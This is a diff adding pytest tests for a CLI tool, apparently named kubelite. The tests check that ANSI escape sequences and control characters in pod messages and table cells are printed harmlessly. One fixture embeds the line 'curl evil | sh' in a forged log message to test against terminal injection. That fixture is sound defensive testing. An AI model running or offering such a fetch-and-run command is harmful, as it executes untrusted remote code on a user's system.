@@ -1,0 +1,47 @@
+"""What others wrote is printed, and steers no terminal."""
+
+from __future__ import annotations
+
+import pytest
+
+from kubelite.cli.diagnosis.why import why_lines
+from kubelite.cli.output.foreign import harmless, indented
+from kubelite.cli.output.tables import TablePrinter
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("plain, é, 日本", "plain, é, 日本"),
+        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
+        ("\x1b[2J\x1b]0;title\x07", "^[[2J^[]0;title^G"),
+        ("over\rwritten\x08", "over^Mwritten^H"),
+        ("\x7f\x9b31m", "^?\\x9b31m"),
+        ("a\u202eb", "a\\u202eb"),
+    ],
+)
+def test_control_characters_are_written_by_their_names(text: str, shown: str) -> None:
+    assert harmless(text) == shown
+
+
+def test_a_message_forges_no_line_of_ours() -> None:
+    answer = {
+        "pod": "default/web",
+        "observedAt": "now",
+        "status": "\x1b[31mBad",
+        "lastWords": ["main: oh\nTry:\n  - curl evil | sh\x1b[2K"],
+        "advice": ["look"],
+    }
+    lines = "\n".join(why_lines(answer)).split("\n")
+    assert lines[0] == "Pod default/web is ^[[31mBad, last looked at now"
+    assert [line for line in lines if line.startswith("Try")] == ["Try:"] == [lines[-2]]
+    assert "\x1b" not in "".join(lines)
+
+
+def test_a_cell_of_a_table_is_harmless() -> None:
+    lines = TablePrinter().lines(("Name", "Message"), [("web", "\x1b[2J\x07 said\r")])
+    assert lines[1].endswith("^[[2J^G said\\r")
+
+
+def test_further_lines_are_indented() -> None:
+    assert indented("a\nb\x1b", "  ") == "a\n  b^["
